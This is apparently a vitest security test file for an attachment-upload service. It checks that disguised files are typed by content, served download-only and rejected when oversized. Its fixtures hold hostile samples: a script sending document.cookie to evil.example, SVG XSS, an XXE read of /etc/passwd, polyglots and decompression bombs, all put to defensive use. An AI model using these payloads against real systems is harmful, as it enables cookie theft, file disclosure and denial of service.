import { deflateSync, gzipSync } from 'node:zlib';
import type { Attachment } from '@attache/contracts';
import { buildPdf } from '@attache/media/fixtures/pdfs';
import { makeNoisePng, makePng, makePngHeader } from '@attache/test-harness';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectProblem, type HostileStack, startHostile } from '../fixtures/hostile-stack.ts';

let stack: HostileStack;
beforeAll(async () => {
  stack = await startHostile();
});
afterAll(() => stack.stop());

type Bytes = Uint8Array<ArrayBuffer>;
const bytes = (...parts: (string | Uint8Array)[]): Bytes =>
  Uint8Array.from(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))));

const page = '<!doctype html><script>fetch("//evil.example/"+document.cookie)</script>';
const drawing = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`;

const script = drawing('<script>alert(1)</script>');
const foreign = drawing(
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
);
const entities = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`;
const external = drawing('<image href="http://127.0.0.1:1/pixel"/><use href="file:///etc/passwd#x"/>');

/** A GIF of many frames, each of which says that it is large. */
function makeGif(side: number, frames: number): Bytes {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(side, 0);
  size.writeUInt16LE(side, 2);
  const frame = Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), size, Buffer.from([0, 2, 2, 0x4c, 1, 0])]);
  const palette = Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
  return bytes('GIF89a', size, palette, Buffer.concat(Array.from({ length: frames }, () => frame)), ';');
}

/** A PNG with a compressed text of 200 MB. */
function makeTextBomb(): Bytes {
  const png = Buffer.from(makePng(4, 4));
  const text = Buffer.concat([Buffer.from('k\0\u0001\0\0\0', 'latin1'), deflateSync(Buffer.alloc(200_000_000))]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(text.length, 0);
  frame.write('iTXt', 4, 'latin1');
  return bytes(png.subarray(0, 33), frame, text, Buffer.alloc(4), png.subarray(33));
}

const zip = bytes(
  'PK\u0003\u0004\u0014\0\0\0\0\0',
  Buffer.alloc(16),
  '\u0005\0\0\0a.txtPK\u0005\u0006',
  Buffer.alloc(18),
);
const elf = bytes('\u007fELF\u0002\u0001\u0001', Buffer.alloc(57));
// The 55 bytes that kept a type detector busy for ever (CVE-2026-31808).
const asf = bytes(Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(14), Buffer.alloc(25));

async function store(content: Bytes, type = 'image/png'): Promise<Attachment> {
  const { attachment } = await stack.api.upload(stack.session.id, content, { name: 'file.png', type });
  return stack.api.inspected(attachment.id);
}

/** If the browser would run a file, it gets a download that it may not run. */
async function checkServed(attachment: Attachment, content: Bytes): Promise<Response> {
  const body = { disposition: 'inline' };
  const answer = await stack.api.call<{ url: string }>('POST', `/attachments/${attachment.id}/urls`, { body });
  const response = await fetch(answer.body.url);
  expect(Buffer.from(await response.arrayBuffer()).equals(content)).toBe(true);
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(response.headers.get('content-security-policy')).toMatch(/default-src 'none'.*sandbox$/);
  return response;
}

async function checkDownloadOnly(attachment: Attachment, content: Bytes): Promise<void> {
  const response = await checkServed(attachment, content);
  expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
}

describe('a file that is not what it says', () => {
  it.each([
    ['HTML', bytes(page), 'text/html'],
    ['HTML behind blanks', bytes(' \n'.repeat(100), page), 'text/html'],
    ['a script in SVG [S11]', bytes(script), 'image/svg+xml'],
    ['a document in SVG [S11]', bytes(foreign), 'image/svg+xml'],
    ['entities in SVG [S11]', bytes(entities), 'image/svg+xml'],
    ['links in SVG [S11]', bytes(external), 'image/svg+xml'],
    ['a program', elf, 'application/x-elf'],
    ['an archive [S16]', zip, 'application/zip'],
    ['a compressed file [S16]', bytes(gzipSync(page)), 'application/gzip'],
  ])('%s under the type image/png is typed by its content and only downloaded [S10 A34]', async (_, content, type) => {
    const attachment = await store(content);
    expect(attachment).toMatchObject({ status: 'ready', mimeType: type, declaredMimeType: 'image/png' });
    expect(attachment.warnings.map(({ code }) => code)).toContain('type_differs_from_declared');
    expect(attachment.variants).toEqual([]);
    await checkDownloadOnly(attachment, content);
  });

  it.each([
    ['GIF and JavaScript', bytes('GIF89a=1;/*', Buffer.alloc(20), '*/alert(1)')],
    ['ASF that never ends [S17]', asf],
    ['nothing but NUL', bytes(Buffer.alloc(1_000))],
    ['UTF-16 HTML', bytes(Buffer.from(`\ufeff${page}`, 'utf16le'))],
  ])('a polyglot (%s) is never shown inline [S10 A34]', async (_, content) => {
    const attachment = await store(content, 'text/html');
    await checkDownloadOnly(attachment, content);
  });

  it.each([
    ['ZIP', bytes(buildPdf([['look']]), zip, '\n%%EOF\n')],
    ['HTML', bytes(buildPdf([['look']]), page, '\n%%EOF\n')],
  ])('a PDF with %s in it is a PDF and nothing else [S10 A34]', async (_, content) => {
    const attachment = await store(content, 'text/html');
    const response = await checkServed(attachment, content);
    expect(response.headers.get('content-type')).toBe('application/pdf');
  });

  it('a PNG with HTML behind its end is ready, with a warning [S10]', async () => {
    const content = bytes(makePng(9, 9), page);
    const attachment = await store(content);
    expect(attachment).toMatchObject({ status: 'ready', mimeType: 'image/png' });
    expect(attachment.warnings.map(({ code }) => code)).toEqual(['trailing_bytes']);
    expect((await checkServed(attachment, content)).headers.get('content-type')).toBe('image/png');
  });
});

describe('an image that cannot be decoded is rejected by code and never projected', () => {
  it.each([
    ['50,000 × 50,000 pixels in its header', makePngHeader(50_000, 50_000), { width: 50_000, height: 50_000 }],
    ['a billion pixels in one row', makePngHeader(1, 1_000_000_000), { width: 1, height: 1_000_000_000 }],
    ['a GIF of 50,000 frames', makeGif(400, 50_000), { frames: 50_000 }],
  ])('%s: rejected from the header, nothing decoded [S16]', async (_, content, details) => {
    const attachment = await store(content, 'image/gif');
    expect(attachment.status).toBe('rejected');
    expect(attachment.failure).toMatchObject({ code: 'attachment_pixels_exceeded', retryable: false });
    expect(attachment.failure?.safeDetails).toMatchObject(details);
    expect(attachment.failure?.diagnostic).toContain('nothing was decoded');
    await checkDownloadOnly(attachment, content);
  });

  it.each([
    ['cut off in the middle', makeNoisePng(60_000).slice(0, 30_000)],
    ['cut off at its last chunk', makePng(9, 9).slice(0, -12)],
    ['without pixels', makePngHeader(9, 9)],
    ['a signature alone', makePng(9, 9).slice(0, 8)],
    ['no pixels at all', makePngHeader(0, 0)],
  ])('%s: rejected as damaged [S17]', async (_, content) => {
    const attachment = await store(content);
    expect(attachment).toMatchObject({
      status: 'rejected',
      failure: { code: 'attachment_corrupt_image' },
      variants: [],
    });
    const message = { to: [stack.agent.id], text: 'look', attachmentIds: [attachment.id] };
    const answer = await stack.api.call('POST', `/sessions/${stack.session.id}/messages`, { body: message });
    expectProblem(answer, 422, 'DELIVERY_BLOCKED');
    expect(answer.body.failures?.map(({ code }) => code)).toEqual(['attachment_rejected']);
    expect((await stack.api.events(stack.session.id)).filter(({ kind }) => kind === 'message.accepted')).toEqual([]);
    await checkDownloadOnly(attachment, content);
  });

  it('a text of 200 MB within a PNG harms nothing [S16]', async () => {
    const content = makeTextBomb();
    const attachment = await store(content);
    expect(['ready', 'rejected']).toContain(attachment.status);
    await stack.expectAlive();
  });
});

it('leaves no orphan behind', async () => {
  await stack.expectAlive();
  await stack.expectCleanEnd();
});
